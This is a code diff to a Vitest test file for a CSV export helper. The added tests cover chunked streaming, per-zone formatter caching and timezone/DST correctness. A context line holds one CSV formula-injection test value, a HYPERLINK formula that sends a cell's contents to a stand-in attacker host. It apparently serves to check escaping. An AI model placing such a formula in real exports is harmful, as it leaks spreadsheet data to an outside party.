@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { parse } from "csv-parse/sync";
-import { csvDownload, stampedCsvName } from "./csv";
+import { CHUNK_ROWS, csvDownload, localTime, stampedCsvName } from "./csv";
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example?"&A1,"open")',
@@ -39,6 +39,84 @@ describe("csvDownload", () => {
       expect(row).toEqual(["-12.50", "-7", "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]);
     });
   }
+});
+
+describe("csvDownload, streamed", () => {
+  it("reads about one chunk ahead of a reader that stops taking the file, not the whole source", async () => {
+    let produced = 0;
+    async function* rows() {
+      for (let i = 0; i < 200_000; i++) {
+        produced++;
+        yield [i, "x".repeat(60)];
+      }
+    }
+    const reader = csvDownload(rows(), ["n", "s"], "t.csv").body!.getReader();
+    await reader.read();
+    // Give a read-ahead every chance to run before looking.
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(produced).toBeLessThanOrEqual(3 * CHUNK_ROWS);
+    await reader.cancel();
+  });
+
+  it("writes the header once and every row, in order, across chunks; the header alone for no rows", async () => {
+    async function* rows(n: number) {
+      for (let i = 0; i < n; i++) yield [i];
+    }
+    const text = await csvDownload(rows(2 * CHUNK_ROWS + 7), ["n"], "t.csv").text();
+    expect(text.split("\n")).toEqual(["n", ...Array.from({ length: 2 * CHUNK_ROWS + 7 }, (_, i) => String(i)), ""]);
+    expect(await csvDownload(rows(0), ["n"], "t.csv").text()).toBe("n\n");
+  });
+});
+
+describe("localTime", () => {
+  it("builds one formatter per zone, not one per cell (a million-row export spent ~250 µs a row on them)", () => {
+    const Real = Intl.DateTimeFormat;
+    let made = 0;
+    Intl.DateTimeFormat = class extends Real {
+      constructor(...args: ConstructorParameters<typeof Real>) {
+        super(...args);
+        made++;
+      }
+    } as typeof Real;
+    try {
+      const at = Date.parse("2026-03-08T06:59:59Z");
+      const cells = Array.from({ length: 1000 }, (_, i) => localTime(new Date(at + i * 1000), "America/New_York"));
+      expect(cells[0]).toBe("2026-03-08 01:59:59");
+      expect(cells[1]).toBe("2026-03-08 03:00:00"); // the DST change, still right
+      for (let i = 0; i < 1000; i++) localTime(new Date(at + i * 1000), "Asia/Shanghai");
+      expect(made).toBeLessThanOrEqual(2);
+    } finally {
+      Intl.DateTimeFormat = Real;
+    }
+  });
+});
+
+describe("localTime, from a zone's offset per hour", () => {
+  const intl = (zone: string) => {
+    const f = new Intl.DateTimeFormat("en-CA", {
+      timeZone: zone,
+      ...{ year: "numeric", month: "2-digit", day: "2-digit", hour: "2-digit", minute: "2-digit", second: "2-digit" },
+      hourCycle: "h23",
+    });
+    return (ms: number) => {
+      const p = Object.fromEntries(f.formatToParts(new Date(ms)).map((x) => [x.type, x.value]));
+      return `${p.year}-${p.month}-${p.day} ${p.hour}:${p.minute}:${p.second}`;
+    };
+  };
+  // Each DST change of 2026 (New York at 2:00, Lord Howe by half an hour), second by second either side.
+  const changes: [string, string][] = [
+    ["America/New_York", "2026-03-08T07:00:00Z"],
+    ["America/New_York", "2026-11-01T06:00:00Z"],
+    ["Australia/Lord_Howe", "2026-04-04T15:00:00Z"],
+    ["Australia/Lord_Howe", "2026-10-03T15:30:00Z"],
+    ["Asia/Kathmandu", "2026-06-01T00:00:00Z"],
+  ];
+  for (const [zone, at] of changes)
+    it(`agrees with Intl every second around ${at} in ${zone}`, () => {
+      const want = intl(zone);
+      const t = Date.parse(at);
+      for (let ms = t - 7_200_000; ms < t + 7_200_000; ms += 1000) expect(localTime(new Date(ms), zone)).toBe(want(ms));
+    });
 });
 
 describe("stampedCsvName", () => {
